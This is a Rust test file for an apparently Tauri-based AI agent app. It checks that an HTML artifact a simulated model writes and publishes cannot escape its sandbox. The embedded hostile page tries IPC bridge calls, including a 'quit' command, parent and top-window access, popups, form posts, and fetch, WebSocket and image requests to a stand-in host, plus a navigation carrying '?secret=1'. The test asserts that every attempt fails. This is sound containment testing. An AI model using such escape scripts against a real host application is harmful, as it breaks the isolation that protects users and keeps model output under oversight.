//! A page that a model wrote, and wrote to break out.

use longrein_runtime::ports::ReplyBlock;
use longrein_testkit::SeenRequest;
use longrein_testkit::provider::{Content, Setup};
use longrein_testkit::reply::reply_of;
use serde_json::{Value, json};
use tokio::io::AsyncReadExt;
use tokio::net::TcpListener;

use crate::desk::with_provider;
use crate::window::Window;

/// Tries every way out, and writes down what each gave.
const PAGE: &str = r#"<!doctype html><html><head><title>A hostile page</title></head><body>
<h1>Hostile</h1><p id="report"></p><form id="form" action="HOST/form" method="post"></form>
<script>
const reached = {};
const attempts = {
  internals: () => { if (!window.__TAURI_INTERNALS__ && !window.ipc) throw 0; },
  parent: () => parent.document.title,
  parentInternals: () => parent.__TAURI_INTERNALS__.invoke,
  handler: () => { window.webkit.messageHandlers.ipc.postMessage(JSON.stringify({ cmd: 'quit', callback: 0, error: 1, payload: { how: 'stop' }, options: {} })); throw 0; },
  bridge: () => fetch('ipc://localhost/list_runs', { method: 'POST', body: '{}' }),
  window: () => fetch('tauri://localhost/index.html'),
  host: () => fetch('HOST/fetch'),
  socket: () => new Promise((done, refused) => { const socket = new WebSocket('HOST/socket'.replace('http', 'ws')); socket.onopen = done; socket.onerror = refused; }),
  picture: () => new Promise((done, refused) => { const picture = new Image(); picture.onload = done; picture.onerror = refused; picture.src = 'HOST/picture.png'; }),
  call: () => { new RTCPeerConnection(); },
  popup: () => { if (!window.open('HOST/popup')) throw 0; },
  top: () => { top.location = 'HOST/top'; throw 0; },
  form: () => { document.getElementById('form').submit(); throw 0; },
  store: () => localStorage.setItem('a', 'b'),
  cookie: () => { document.cookie = 'a=b'; if (!document.cookie) throw 0; },
  worker: () => { new Worker('data:text/javascript,0'); },
  frame: () => new Promise((done, refused) => { const frame = document.createElement('iframe'); frame.src = 'HOST/frame'; frame.onload = refused; document.body.append(frame); setTimeout(refused, 500); }),
};
(async () => {
  for (const [name, attempt] of Object.entries(attempts)) {
    try { await attempt(); reached[name] = true; } catch { reached[name] = false; }
  }
  document.getElementById('report').textContent = JSON.stringify(reached);
})();
</script></body></html>"#;

const REPORTED: &str = "return document.getElementById('report')?.textContent.length > 2";

fn delivers(page: String) -> Setup {
    Setup::of(move |request: &SeenRequest| {
        let call = |name: &str, arguments: Value| ReplyBlock::ToolUse {
            id: String::new(),
            name: name.to_owned(),
            arguments: arguments.to_string(),
            raw: None,
        };
        let blocks = match request.replies() {
            0 => vec![call(
                "write_file",
                json!({"path": "index.html", "content": page}),
            )],
            1 => vec![call("publish_artifact", json!({"path": "index.html"}))],
            _ => vec![ReplyBlock::Text {
                text: "It is delivered.".to_owned(),
                raw: None,
            }],
        };
        Content::Reply(reply_of(blocks, request)).into()
    })
}

#[tokio::test]
async fn a_hostile_page_reaches_neither_the_bridge_nor_the_window_nor_any_host() {
    let host = TcpListener::bind("127.0.0.1:0")
        .await
        .expect("a port of the loopback address");
    let address = format!("http://{}", host.local_addr().expect("it is bound"));
    let _provider = with_provider(delivers(PAGE.replace("HOST", &address))).await;
    let window = Window::open(&[]).await;
    window.type_into("start-question", "Write a page.").await;
    window.press("start-run").await;
    window.find_css("[data-testid=run-end]").await;
    window.press("artifact-open").await;
    window.enter_artifact().await;
    window
        .until_script("the page has tried everything", REPORTED)
        .await;
    let report = window
        .eval("return document.getElementById('report').textContent")
        .await;
    let report: Value =
        serde_json::from_str(report.as_str().unwrap_or_default()).expect("a report");
    let reached: Vec<&String> = report
        .as_object()
        .expect("names and answers")
        .iter()
        .filter(|(_, answer)| **answer != Value::Bool(false))
        .map(|(name, _)| name)
        .collect();
    assert!(reached.is_empty(), "the page reached: {reached:?}");
    assert_eq!(window.eval("return origin").await, json!("null"));

    // A frame that moves itself gets nowhere either.
    let moved = format!("location.href = '{address}/moved?secret=1'; return true");
    window.eval(&moved).await;
    window.leave_frame().await;
    window
        .until_script(
            "the window is still our own",
            "return location.href.startsWith('tauri://localhost')",
        )
        .await;
    let shown = window.page_text().await;
    assert!(
        shown.contains("A hostile page"),
        "the window shows what it showed:\n{shown}"
    );
    assert_eq!(
        window
            .find_css("[data-testid=artifact]")
            .await
            .attr("data-testid")
            .await
            .ok()
            .flatten()
            .as_deref(),
        Some("artifact")
    );

    // Whoever would have come is in the queue of the port by now: the page has tried everything.
    let asked = match already_there(host.accept()).await {
        Some(mut stream) => {
            let mut asked = vec![0; 256];
            let read = stream.read(&mut asked).await.unwrap_or(0);
            String::from_utf8_lossy(&asked[..read]).into_owned()
        }
        None => String::new(),
    };
    assert_eq!(asked, "", "the page reached a host");
    window.close().await;
}

/// The connection that is there already, if any.
async fn already_there(
    accept: impl Future<Output = std::io::Result<(tokio::net::TcpStream, std::net::SocketAddr)>>,
) -> Option<tokio::net::TcpStream> {
    tokio::select! {
        biased;
        accepted = accept => accepted.ok().map(|(stream, _)| stream),
        () = tokio::task::yield_now() => None,
    }
}

#[tokio::test]
async fn only_delivered_files_have_an_address_and_each_comes_with_its_policy() {
    let page = "<!doctype html><title>Plain</title><h1>Plain</h1><p>Nothing is claimed.".to_owned();
    let _provider = with_provider(delivers(page)).await;
    let window = Window::open(&[]).await;
    window.type_into("start-question", "Write a page.").await;
    window.press("start-run").await;
    window.find_css("[data-testid=run-end]").await;
    window.press("artifact-open").await;
    let source = window
        .find("artifact-frame")
        .await
        .attr("src")
        .await
        .expect("an attribute")
        .expect("an address");
    assert!(
        source.starts_with("longrein-artifact://localhost/"),
        "{source}"
    );
    // The frame of a file that was never delivered stays empty, whatever lies in the workspace.
    let other = source.replace("index", "config").replace(".html", ".toml");
    window
        .eval(&format!(
            "document.querySelector('[data-testid=artifact-frame]').src = '{other}'; return true"
        ))
        .await;
    window.enter_artifact().await;
    window
        .until_script(
            "the answer is no",
            "return document.body?.innerText.includes('There is no such file')",
        )
        .await;
    window.leave_frame().await;
    // The window itself can't read it: its policy knows no such host.
    let read = window
        .eval_later(&format!("const done = arguments[arguments.length - 1]; fetch('{source}').then(() => done('read'), () => done('refused'));"))
        .await;
    assert_eq!(read, json!("refused"));
    window.close().await;
}
